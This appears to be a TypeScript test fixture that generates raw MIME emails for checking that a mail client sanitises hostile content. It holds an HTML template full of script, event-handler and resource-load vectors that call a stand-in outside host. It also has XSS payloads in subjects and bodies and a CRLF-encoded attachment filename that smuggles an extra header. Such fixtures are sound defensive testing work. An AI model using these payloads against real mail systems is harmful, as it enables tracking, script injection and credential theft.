/** Mail as strangers write it, raw. */
export interface RawMessage {
  readonly to: string;
  readonly mime: string;
}

/** A red dot. */
const PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4//8/w38GIAXDIBKE0DHxgljNBAAO9TXL0Y4OHwAAAABJRU5ErkJggg==";

/** HTML that tries everything; `elsewhere` is a server that must never hear of it. */
export const ATTACK_HTML = (elsewhere: string) => `<html><head><title>t</title>
<base href="${elsewhere}/base/"><meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">
<link rel="stylesheet" href="${elsewhere}/link.css"><style>@import url("${elsewhere}/import.css"); body { background: url(${elsewhere}/sheet.png) }</style>
<script src="${elsewhere}/script.js"></script><script>document.title = "taken"; fetch("${elsewhere}/fetch"); top.location = "${elsewhere}/top";</script></head>
<body background="${elsewhere}/body.png" onload="fetch('${elsewhere}/onload')" style="margin:0">
<h2 style="color:#0b5cad;font-family:Georgia,serif">Dear Alice,</h2>
<p>thank you for the <b>offer</b>. We take it as it stands:</p>
<table border="1" cellpadding="6" style="border-collapse:collapse"><tr><th bgcolor="#eeeeee">Article</th><th bgcolor="#eeeeee">Price</th></tr><tr><td>Chair</td><td align="right">49.00</td></tr><tr><td>Table</td><td align="right">199.00</td></tr></table>
<p>Our logo: <img src="cid:logo@fabrikam" alt="Fabrikam" width="20" height="20"> and a picture from elsewhere: <img src="${elsewhere}/pixel.gif" alt="Campaign"></p>
<img src="x" onerror="fetch('${elsewhere}/onerror')"><svg onload="fetch('${elsewhere}/svg')"><image href="${elsewhere}/svg.png"/></svg>
<p style="background-image:url('${elsewhere}/style.png');position:fixed;top:0;color:green">This text is green and in its place.</p>
<iframe src="${elsewhere}/frame" srcdoc="<script>parent.fetch('${elsewhere}/srcdoc')</script>"></iframe><object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed">
<video src="${elsewhere}/video" poster="${elsewhere}/poster"></video><audio src="${elsewhere}/audio" autoplay></audio>
<form action="${elsewhere}/form"><input name="password" type="password" autofocus onfocus="fetch('${elsewhere}/focus')"><button>Send</button></form>
<p>More at <a href="${elsewhere}/click" ping="${elsewhere}/ping" target="_top">our site</a> or <a href="javascript:fetch('${elsewhere}/javascript')">here</a>.</p>
<blockquote>On Monday Alice wrote:<blockquote>Here is our offer.</blockquote></blockquote></body></html>`;

/** An answer full of attacks, questions to the queue, an advertisement, a private note, and one that is too large. */
export function messages(elsewhere: string, answered: string): RawMessage[] {
  const alice = "alice@contoso.example";
  const support = "support@contoso.example";
  return [
    { to: alice, mime: attack(elsewhere, answered) },
    {
      to: support,
      mime: plain({
        from: "Erin Ek <erin@tailspin.example>",
        to: support,
        subject: `"><img src=${elsewhere}/subject onerror=alert(1)> two screws are missing`,
        text: `Two screws were not in the box.\n\n<script>fetch("${elsewhere}/text")</script>\n\nErin`,
        id: "screws@tailspin.example",
      }),
    },
    {
      to: support,
      mime: plain({
        from: "=?utf-8?B?2LPYp9mF2Yo=?= <sami@arabic.example>",
        to: support,
        subject: "=?utf-8?B?2LfZhNioINi52LHYtiDYo9iz2LnYp9ixINmE2YTYt9in2YjZhNin2Ko=?=",
        text: "مرحبا،\n\nنرجو إرسال عرض أسعار للطاولات.\n\nسامي",
        id: "offer@arabic.example",
      }),
    },
    {
      to: alice,
      mime: plain({
        from: "Bargains <news@bargains.example>",
        to: alice,
        subject: "Only today: secret-subject",
        text: "Go.",
        id: "today@bargains.example",
      }),
    },
    {
      to: alice,
      mime: plain({
        from: "Doctor Dee <dee@clinic.example>",
        to: alice,
        subject: "Your private results",
        text: "Call me.",
        id: "results@clinic.example",
        more: ["Sensitivity: Private"],
      }),
    },
    {
      to: support,
      mime: plain({
        from: "Max Much <max@large.example>",
        to: support,
        subject: "All my pictures",
        text: "x\n".repeat(600_000),
        id: "large@large.example",
      }),
    },
  ];
}

interface Plain {
  readonly from: string;
  readonly to: string;
  readonly subject: string;
  readonly text: string;
  readonly id: string;
  readonly more?: readonly string[];
}

function plain({ from, to, subject, text, id, more = [] }: Plain): string {
  return [
    ...head({ from, to, subject, id, more }),
    "Content-Type: text/plain; charset=utf-8",
    "Content-Transfer-Encoding: 8bit",
    "",
    text,
  ].join("\n");
}

function head({ from, to, subject, id, more = [] }: Omit<Plain, "text">): string[] {
  const date = new Date().toUTCString().replace("GMT", "+0000");
  return [`From: ${from}`, `To: ${to}`, `Subject: ${subject}`, `Date: ${date}`, `Message-ID: <${id}>`, ...more, "MIME-Version: 1.0"];
}

function attack(elsewhere: string, answered: string): string {
  const base64 = (text: string) => Buffer.from(text).toString("base64").replace(/.{76}/g, "$&\n");
  const part = (headers: readonly string[], body: string) => ["--b", ...headers, "Content-Transfer-Encoding: base64", "", body].join("\n");
  return [
    ...head({
      from: "Carol Chen <carol.chen@fabrikam.example>",
      to: "Alice Adams <alice@contoso.example>",
      subject: "Re: Our offer <script>alert(1)</script>",
      id: "reply@fabrikam.example",
      more: [`In-Reply-To: <${answered}>`, `References: <${answered}>`, "Cc: Bob Brown <bob@contoso.example>, Zoe <zoe@elsewhere.example>"],
    }),
    'Content-Type: multipart/related; boundary="b"',
    "",
    part(["Content-Type: text/html; charset=utf-8"], base64(ATTACK_HTML(elsewhere))),
    part(
      ["Content-Type: image/png; name=logo.png", "Content-ID: <logo@fabrikam>", "Content-Disposition: inline; filename=logo.png"],
      PICTURE,
    ),
    part(
      ["Content-Type: text/csv", `Content-Disposition: attachment; filename*=UTF-8''Best%C3%A4tigung%22%0D%0AX-Evil%3A%201.csv`],
      base64("a,b\n1,2\n"),
    ),
    part(
      ["Content-Type: text/html", "Content-Disposition: attachment; filename=page.html"],
      base64("<script>alert(document.domain)</script>"),
    ),
    "--b--",
    "",
  ].join("\n");
}
